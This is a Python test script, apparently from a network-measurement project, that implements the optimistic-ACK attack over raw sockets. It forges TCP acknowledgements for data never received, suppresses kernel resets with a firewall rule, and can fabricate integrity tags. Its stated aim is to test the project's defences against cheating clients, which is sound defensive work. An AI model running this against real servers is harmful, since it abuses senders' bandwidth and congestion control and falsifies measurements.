"""
What is a client credited that acknowledges what it never received?

`python -m tests.attacks.optimistic_ack HERE THERE PORT AHEAD SECONDS [guess]`, as root: a TCP of its own over a raw socket joins one
download stream and acknowledges AHEAD octets beyond the last that arrived (optimistic acknowledgement, Savage 1999). The sender's kernel
believes that all went through, sends ever faster, and counts no loss. Of what really arrived the client returns the right tags; with
`guess` it also makes some up. One line of JSON tells what came of it.

It does not prove: that nobody lies better. A tag needs the content, whoever sends it.
"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from typing import Final

from evidence.stream import TAG_OCTETS, Done, chunk_octets, tag
from tests.attacks.session import Session, session, told

FIN, SYN, RST, ACK, PUSH = 0x01, 0x02, 0x04, 0x10, 0x08
SEGMENT: Final = 1460
OPTIONS = struct.pack("!BBHBBBB", 2, 4, SEGMENT, 1, 3, 3, 14)  # MSS, no operation, window scale 14
WINDOW = 60_000  # times 2^14: as much as the sender likes
RUNGS = 16  # acknowledgements sent at once, each a step further; those beyond what was sent are ignored
TICK_S = 0.001
QUIET = """table inet quiet {{
  chain leaving {{
    type filter hook output priority filter; policy accept;
    tcp sport {port} tcp flags & rst == rst drop
  }}
}}
"""
WHOLE = 1 << 32


@dataclass(slots=True)
class Forger:
    """A TCP connection of our own: offsets count from the first octet of each side's content."""

    here: str
    there: str
    port: int
    ours: int = field(default_factory=lambda: 40_000 + os.getpid() % 10_000)
    raw: socket.socket = field(init=False)
    first: int = 0
    peer_first: int = 0
    sent: int = 0
    seen: int = 0
    arrived: int = 0
    begun: bytearray = field(default_factory=bytearray)

    def connect(self) -> None:
        """Shake hands honestly; our kernel, which knows nothing of this, is kept from resetting."""
        subprocess.run(["nft", "-f", "-"], input=QUIET.format(port=self.ours), text=True, check=True)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.raw.bind((self.here, 0))
        self.raw.settimeout(2)
        isn = int.from_bytes(os.urandom(4), "big")
        self._send(SYN, isn, 0, options=OPTIONS)
        while (found := self._next()) is None or found[0] & (SYN | ACK) != SYN | ACK:
            pass
        self.first, self.peer_first = (isn + 1) % WHOLE, (found[1] + 1) % WHOLE
        self.acknowledge(0)

    def say(self, content: bytes) -> None:
        """Send content; small and once, for the way up is free."""
        self._send(ACK | PUSH, (self.first + self.sent) % WHOLE, (self.peer_first + self.seen) % WHOLE, content)
        self.sent += len(content)

    def acknowledge(self, offset: int) -> None:
        """Say that everything before this offset has come."""
        self._send(ACK, (self.first + self.sent) % WHOLE, (self.peer_first + offset) % WHOLE)

    def take(self) -> bool:
        """One packet, if one waits: what arrived is counted, and kept as far as nothing is missing before it."""
        found = self._next()
        if found is None or not found[2]:
            return found is not None
        offset, content = (found[1] - self.peer_first) % WHOLE, found[2]
        self.arrived += len(content)
        self.seen = max(self.seen, offset + len(content))
        if offset <= len(self.begun) < offset + len(content):
            self.begun += content[len(self.begun) - offset :]
        return True

    def _next(self) -> tuple[int, int, bytes] | None:
        """Flags, sequence number and content of the next packet of ours; None when none waits."""
        while True:
            try:
                packet = self.raw.recv(70_000)
            except (TimeoutError, BlockingIOError):
                return None
            header = (packet[0] & 15) * 4
            source, to, sequence, _, offset, flags = struct.unpack_from("!HHIIBB", packet, header)
            if (source, to) == (self.port, self.ours):
                return flags, sequence, packet[header + (offset >> 4) * 4 :]

    def _send(self, flags: int, sequence: int, acknowledged: int, content: bytes = b"", options: bytes = b"") -> None:
        """One segment."""
        length = 20 + len(options)
        fields = (self.ours, self.port, sequence, acknowledged, length // 4 << 4, flags, WINDOW)
        head = struct.pack("!HHIIBBHHH", *fields, 0, 0) + options
        pseudo = socket.inet_aton(self.here) + socket.inet_aton(self.there)
        pseudo += struct.pack("!BBH", 0, socket.IPPROTO_TCP, length + len(content))
        check = _checksum(pseudo + head + content)
        self.raw.sendto(head[:16] + struct.pack("!H", check) + head[18:] + content, (self.there, 0))


def _checksum(octets: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    octets += b"\0" * (len(octets) % 2)
    total = int(sum(struct.unpack(f"!{len(octets) // 2}H", octets)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


@dataclass(slots=True)
class Tags:
    """The tags of what arrived without a gap, in order; behind the first gap there are none, or made-up ones."""

    check: bytes
    guess: bool
    tagged: int = 0
    claimed: int = 0

    def due(self, forger: Forger) -> bytes:
        """The tags that can be said now."""
        found = b""
        while (end := self.tagged + chunk_octets(self.tagged)) <= len(forger.begun):
            found += tag(self.check, forger.begun[self.tagged : end])
            self.tagged = self.claimed = end
        while (
            self.guess and forger.seen > len(forger.begun) and self.claimed + chunk_octets(self.claimed) <= forger.seen
        ):
            found += os.urandom(TAG_OCTETS)
            self.claimed += chunk_octets(self.claimed)
        return found


def lie(forger: Forger, ahead: int, until_s: float, tags: Tags) -> None:
    """Acknowledge what never came, until it is time."""
    while time.monotonic() < until_s:
        tick_s = time.monotonic() + TICK_S
        while time.monotonic() < tick_s and forger.take():
            pass
        for rung in range(RUNGS + 1):
            forger.acknowledge(forger.seen + ahead * rung // RUNGS)
        if due := tags.due(forger):
            forger.say(due)
        time.sleep(max(0.0, tick_s - time.monotonic()))


def attack(opened: Session, here: str, there: str, port: int, ahead: int, seconds: float, guess: bool) -> str:
    """Run one download and lie all the while; the server's word."""
    opened.run(1, 1, int(seconds * 1_000_000))
    forger = Forger(here, there, port)
    forger.connect()
    forger.say(opened.join(1, 0))
    forger.raw.setblocking(False)
    heard: list[Done] = []

    def listen() -> None:
        done = opened.until(Done)
        assert isinstance(done, Done)
        heard.append(done)

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    begun_s = time.monotonic()
    lie(forger, ahead, begun_s + seconds, Tags(bytes.fromhex(opened.welcome.check), guess))
    listener.join(15)
    if not heard:
        raise TimeoutError("the server did not tell what came of it")
    return told(heard[0], arrived_bit_s=int(forger.arrived * 8 / seconds), seen_octets=forger.seen)


def main(here: str, there: str, port: int, ahead: int, seconds: float, guess: bool) -> None:
    """Attack once and print what came of it."""
    with session(there, port) as opened:
        print(attack(opened, here, there, port, ahead, seconds, guess))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), "guess" in sys.argv[6:])
